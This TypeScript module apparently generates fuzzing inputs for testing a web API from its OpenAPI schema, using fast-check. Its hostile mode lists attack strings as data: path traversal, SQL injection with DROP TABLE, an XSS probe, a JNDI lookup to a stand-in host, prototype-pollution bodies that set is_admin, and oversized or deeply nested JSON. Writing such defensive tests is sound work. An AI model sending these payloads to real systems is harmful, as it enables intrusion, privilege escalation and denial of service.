import fc from 'fast-check';

/** The parts of an OpenAPI 3 schema object the generators read. */
export interface Schema {
  $ref?: string;
  type?: string;
  format?: string;
  enum?: unknown[];
  example?: unknown;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  pattern?: string;
  nullable?: boolean;
  items?: Schema;
  properties?: Record<string, Schema>;
  required?: string[];
  allOf?: Schema[];
  oneOf?: Schema[];
  anyOf?: Schema[];
}

export type Components = Record<string, Schema>;

/**
 * `valid`: every value satisfies its schema (to get past validation and reach
 * the rules behind it); `hostile`: values of every kind, broken bodies, unknown fields.
 */
export type Mode = 'valid' | 'hostile';

/** Values the server made (ids, tokens, usernames…) that generated requests may reuse. */
export interface Pools {
  /** Ids by kind: `users`, `files`, `tokens`, `sessions`. */
  ids: Record<string, string[]>;
  refreshTokens: string[];
  emails: string[];
  usernames: string[];
}

export function resolve(schema: Schema | undefined, components: Components): Schema {
  let current = schema ?? {};
  for (let hops = 0; current.$ref && hops < 10; hops += 1) {
    current = components[current.$ref.replace('#/components/schemas/', '')] ?? {};
  }
  if (current.allOf?.length) {
    return current.allOf
      .map((part) => resolve(part, components))
      .reduce<Schema>(
        (merged, part) => ({
          ...merged,
          ...part,
          properties: { ...merged.properties, ...part.properties },
          required: [...(merged.required ?? []), ...(part.required ?? [])],
        }),
        {},
      );
  }
  return current;
}

/** Strings an attacker or a broken client sends: controls, spoofing, injection, sheer size. */
const HOSTILE_STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u202Egnp.exe',
  'zero\u200Bwidth',
  '\uFEFFbom',
  '\uD800',
  '../../etc/passwd',
  '..\\..\\boot.ini',
  "' OR '1'='1",
  '"; DROP TABLE users; --',
  '%00',
  '%2e%2e%2f',
  '<script>alert(1)</script>',
  '=HYPERLINK("http://x")',
  '\uFF1D1+1',
  '${jndi:ldap://x}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  'true',
  '0x10',
  '2026-02-30T25:61:61Z',
  'éé\u0301',
  '😀'.repeat(40),
  'x@straße.example',
];

/** Printable text, any Unicode, including the characters above now and then. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 64 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 64 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom('a', 'é', '\u202E', '0'), fc.integer({ min: 300, max: 20_000 }))
      .map(([c, n]) => c.repeat(n)),
  },
);

/** Something nested `depth` levels deep (built iteratively: JSON.stringify copes up to thousands). */
function nested(depth: number): unknown {
  let value: unknown = 1;
  for (let i = 0; i < depth; i += 1) value = i % 2 === 0 ? { a: value } : [value];
  return value;
}

/** A value of the wrong kind for any field: null, other types, nesting, extremes. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.constant(null) },
  { weight: 3, arbitrary: hostileString },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      0,
      -1,
      1.5,
      2 ** 31,
      2 ** 53 + 1,
      -(2 ** 63),
      1e308,
      Number.MIN_VALUE,
      true,
      false,
    ),
  },
  { weight: 1, arbitrary: fc.constantFrom([], {}, [null], { a: null }, [[['x']]], { $gt: '' }) },
  { weight: 1, arbitrary: fc.integer({ min: 2, max: 64 }).map(nested) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

function fromPool(values: string[] | undefined): fc.Arbitrary<string> | undefined {
  return values && values.length > 0 ? fc.constantFrom(...values) : undefined;
}

/** A value that satisfies the schema (as far as the schema says), to get past validation. */
export function validValue(
  schema: Schema,
  components: Components,
  pools: Pools,
  name = '',
): fc.Arbitrary<unknown> {
  const s = resolve(schema, components);
  if (s.enum?.length) return fc.constantFrom(...s.enum);
  const choices: Array<fc.Arbitrary<unknown>> = [];
  if (s.example !== undefined) choices.push(fc.constant(s.example));
  switch (s.type) {
    case 'integer':
    case 'number': {
      const min = s.minimum ?? 0;
      const max = Math.min(s.maximum ?? 1000, min + 1000);
      choices.push(fc.integer({ min, max }));
      break;
    }
    case 'boolean':
      choices.push(fc.boolean());
      break;
    case 'array':
      choices.push(fc.array(validValue(s.items ?? {}, components, pools), { maxLength: 3 }));
      break;
    case 'object':
      choices.push(validObject(s, components, pools));
      break;
    default:
      choices.push(validString(s, pools, name));
  }
  return fc.oneof(...choices);
}

function validString(s: Schema, pools: Pools, name: string): fc.Arbitrary<string> {
  const minLength = s.minLength ?? 0;
  const maxLength = Math.min(s.maxLength ?? 40, 200);
  switch (s.format) {
    case 'uuid':
      return fc.oneof(fromPool(Object.values(pools.ids).flat()) ?? fc.uuid(), fc.uuid());
    case 'email':
      return fc.oneof(
        fc.emailAddress().filter((e) => e.length <= maxLength),
        fromPool(pools.emails) ?? fc.constant('someone@example.org'),
      );
    case 'date-time':
      return fc
        .date({ min: new Date('2000-01-01'), max: new Date('2100-01-01'), noInvalidDate: true })
        .map((d) => d.toISOString());
    case 'password':
      return fc.string({ minLength: 8, maxLength: 40 });
  }
  if (name === 'refresh_token')
    return fc.oneof(fromPool(pools.refreshTokens) ?? fc.constant('x'), fc.base64String());
  if (name === 'username' && pools.usernames.length > 0)
    return fc.oneof(
      fc.constantFrom(...pools.usernames),
      fc.stringMatching(/^[A-Za-z0-9._-]{3,32}$/),
    );
  if (s.pattern) return fc.stringMatching(new RegExp(s.pattern));
  return fc.string({ minLength, maxLength: Math.max(minLength, maxLength) });
}

function validObject(s: Schema, components: Components, pools: Pools): fc.Arbitrary<unknown> {
  const properties = Object.entries(s.properties ?? {});
  const required = new Set(s.required ?? []);
  return fc.record(
    Object.fromEntries(
      properties.map(([name, property]) => [name, validValue(property, components, pools, name)]),
    ),
    { requiredKeys: properties.map(([name]) => name).filter((name) => required.has(name)) },
  );
}

/** Field names a client should not send: unknown ones and the prototype machinery. */
const EXTRA_KEYS = fc.constantFrom(
  'is_admin',
  'is_active',
  'id',
  'owner_id',
  'role',
  '__proto__',
  'constructor',
  'prototype',
  'x'.repeat(300),
  '',
  'a.b',
  'a[b]',
);

/**
 * A request body for an object schema: mostly valid-looking, with some
 * fields hostile or missing and some unknown fields added; now and then a
 * body that is not an object at all. Raw strings are sent as they are
 * (broken JSON, absurd nesting); anything else is JSON-encoded.
 */
export function bodyArbitrary(
  schema: Schema,
  components: Components,
  pools: Pools,
  mode: Mode,
): fc.Arbitrary<{ json?: unknown; raw?: string }> {
  const s = resolve(schema, components);
  if (mode === 'valid') return validObject(s, components, pools).map((json) => ({ json }));
  const properties = Object.entries(s.properties ?? {});
  const field = (name: string, property: Schema) =>
    fc.oneof(
      { weight: 6, arbitrary: validValue(property, components, pools, name) },
      { weight: 3, arbitrary: hostileValue },
    );
  const mixed = fc
    .tuple(
      fc.record(
        Object.fromEntries(properties.map(([name, property]) => [name, field(name, property)])),
        { requiredKeys: [] },
      ),
      fc.dictionary(EXTRA_KEYS, hostileValue, { maxKeys: 2 }),
      fc.boolean(),
    )
    .map(([known, extra, withExtra]) => ({ json: withExtra ? { ...known, ...extra } : known }));
  const rawHostile = fc.oneof(
    fc.constantFrom(
      'null',
      '[]',
      '"text"',
      '42',
      'true',
      '{',
      '{"a":}',
      '{"a":1,}',
      "{'a':1}",
      '\uFEFF{}',
      '{"__proto__":{"is_admin":true}}',
      '{"constructor":{"prototype":{"is_admin":true}}}',
    ),
    fc
      .integer({ min: 33, max: 6000 })
      .map((depth) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`),
    fc.integer({ min: 33, max: 6000 }).map((depth) => `${'['.repeat(depth)}${']'.repeat(depth)}`),
    // Past the 1 MiB JSON body limit.
    fc.constant(`{"a":"${'x'.repeat(1_100_000)}"}`),
  );
  return fc.oneof(
    { weight: 4, arbitrary: validObject(s, components, pools).map((json) => ({ json })) },
    { weight: 5, arbitrary: mixed },
    { weight: 1, arbitrary: rawHostile.map((raw) => ({ raw })) },
  );
}

/** One query, header or path parameter: valid-looking, hostile, or (unless a path parameter) absent. */
export function parameterArbitrary(
  parameter: { name: string; in: string; schema?: Schema },
  components: Components,
  pools: Pools,
  mode: Mode,
): fc.Arbitrary<string | string[] | undefined> {
  const schema = resolve(parameter.schema, components);
  const valid = validValue(schema, components, pools, parameter.name).map((v) =>
    typeof v === 'string' ? v : JSON.stringify(v),
  );
  if (mode === 'valid') {
    if (parameter.in === 'path')
      return fromPool(Object.values(pools.ids).flat()) ?? fc.uuid({ version: 4 });
    if (parameter.in === 'header')
      return fc.option(fc.constantFrom('bytes=0-9', 'bytes=-5', '"0000"'), { nil: undefined });
    return fc.option(valid, { nil: undefined, freq: 2 });
  }
  if (parameter.in === 'path') {
    // Path ids: real ones of every kind, random UUIDs, and junk (never empty: that is another route).
    return fc.oneof(
      { weight: 4, arbitrary: fromPool(Object.values(pools.ids).flat()) ?? fc.uuid() },
      { weight: 2, arbitrary: fc.uuid() },
      { weight: 2, arbitrary: hostileString.filter((v) => v.length > 0 && v.length < 2000) },
    );
  }
  if (parameter.in === 'header') {
    const headerValue = fc.oneof(
      fc.constantFrom(
        'bytes=0-9',
        'bytes=-5',
        'bytes=10-',
        'bytes=5-1',
        'bytes=0-0,2-3',
        'bytes=99999999999999999999-',
        'items=0-1',
        'bytes=',
        '*',
        '"0000"',
        'W/"abc"',
        'Thu, 01 Jan 1970 00:00:00 GMT',
      ),
      fc.string({ unit: fc.constantFrom(...'abc=-,"*/ 0123456789'.split('')), maxLength: 40 }),
    );
    return fc.option(headerValue, { nil: undefined });
  }
  const hostile = hostileString.filter((v) => v.length < 2000);
  return fc.option(
    fc.oneof(
      { weight: 5, arbitrary: valid },
      { weight: 3, arbitrary: hostile },
      { weight: 1, arbitrary: fc.array(valid, { minLength: 2, maxLength: 3 }) },
    ),
    { nil: undefined, freq: 2 },
  );
}
